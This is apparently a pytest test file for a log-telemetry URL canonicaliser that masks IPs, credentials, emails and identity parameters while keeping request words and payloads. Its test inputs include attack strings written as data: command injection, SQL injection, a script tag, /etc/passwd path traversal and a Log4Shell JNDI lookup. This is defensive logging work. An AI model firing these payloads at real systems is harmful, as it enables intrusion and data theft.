"""URLs and request paths: words and payloads are kept, identity is masked."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loglm_bridge.telemetry.canonical.network.urls import url
from tests.telemetry.parsing import assert_linear, few_examples

WORDS = st.from_regex(r"[a-z]{3,8}", fullmatch=True)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("http://192.0.2.7:8080/cgi-bin/a.php?id=12&cmd=;id", "http://{ip}:8080/cgi-bin/a.php?id={n}&cmd=;id"),
        ("https://bob:secret@www.acme.com/x.EXE", "https://{credentials}@www.{domain}.com/x.exe"),
        ("HTTPS://www.acme.com:443/", "https://www.{domain}.com/"),
        ("http://www.acme.com:50001/", "http://www.{domain}.com:{ephemeral}/"),
        ("http://www.acme.com:2001/", "http://www.{domain}.com:{high}/"),
        ("http://[2001:db8::1]/a", "http://{ip}/a"),
        ("ftp://pastebin.com/raw/x", "ftp://pastebin.com/raw/x"),
        ("/..%2f..%2fetc/passwd", "/../../etc/passwd"),
        ("/item/4711/6f1ed002-ab59-4c03-9fd5-7d7e2c0f1f11", "/item/{n}/{guid}"),
        ("/u/ann@corp.example", "/u/{email}"),
        ("/report.PDF", "/report.pdf"),
        ("/page#top", "/page"),
        ("/?user=alice&q=blue+shoes", "/?user={v}&q=blue shoes"),
        ("/?q=", "/?q="),
        ("/?flag", "/?flag"),
        ("/?", "/"),
        ("/?a=ann@corp.example", "/?a={email}"),
        ("/?a=one two three four five", "/?a={text}"),
        ("/?a=q7w2e9r4t5y6u8", "/?a={id}"),
        ("/a?x=%27%20OR%201%3D1--", "/a?x=' OR 1=1--"),
        ("/a?x=%3Cscript%3E", "/a?x=<script>"),
        ("/a?user=' or 1=1--", "/a?user=' or 1=1--"),
        ("/${jndi:ldap://203.0.113.9:1389/a}", "/${jndi:ldap://{ip}:{n}/a}"),
        ("/report?from=2024-05-01T10:11:12Z", "/report?from={time}"),
        ("/a%00b", r"/a\x00b"),
        ("/wp-login.php", "/wp-login.php"),
        ("/" + "/".join("abcdefghijklmnop"), "/" + "/".join("abcdefghijk") + "/{more}"),
        ("-", ""),
        ("", ""),
    ],
)
def test_url(value, expected):
    assert url(value) == expected


def test_percent_encoding_is_decoded_once():
    assert url("/a%2525b") == "/a%25b"


def test_a_log_cannot_forge_a_placeholder():
    assert "{private}" not in url("/%7Bprivate%7D")
    assert "{ip}" not in url("/a?x=%7Bip%7D")


@few_examples
@given(st.lists(WORDS, min_size=1, max_size=6), st.lists(st.tuples(WORDS, st.integers(100, 10**9)), max_size=4))
def test_words_of_the_path_and_names_of_parameters_are_kept(segments, parameters):
    path = "/" + "/".join(segments)
    query = "&".join(f"{name}={value}" for name, value in parameters)
    masked = "&".join(f"{name}={{n}}" for name, _ in parameters)
    assert url(f"{path}?{query}" if query else path) == (f"{path}?{masked}" if query else path)


@few_examples
@given(st.sampled_from(["user", "token", "sessionid", "password", "Email"]), WORDS)
def test_values_of_identity_parameters_are_masked(name, value):
    assert url(f"/x?{name}={value}") == f"/x?{name}={{v}}"


def test_parameters_beyond_the_limit_are_counted_as_more():
    assert url("/?" + "&".join(f"a{i}=b" for i in range(20))).endswith("&{more}")


@few_examples
@given(st.text(max_size=400))
def test_no_control_character_is_left_of_any_text(value):
    assert not any(ord(character) < 32 or ord(character) == 127 for character in url(value))


@pytest.mark.parametrize("unit", ["/", "/a", "%41", "?a=b&", "a=", "../", "http://", "a@"])
def test_reading_takes_linear_time(unit):
    assert_linear(url, unit)
    assert_linear(url, unit, "http://www.acme.com/")
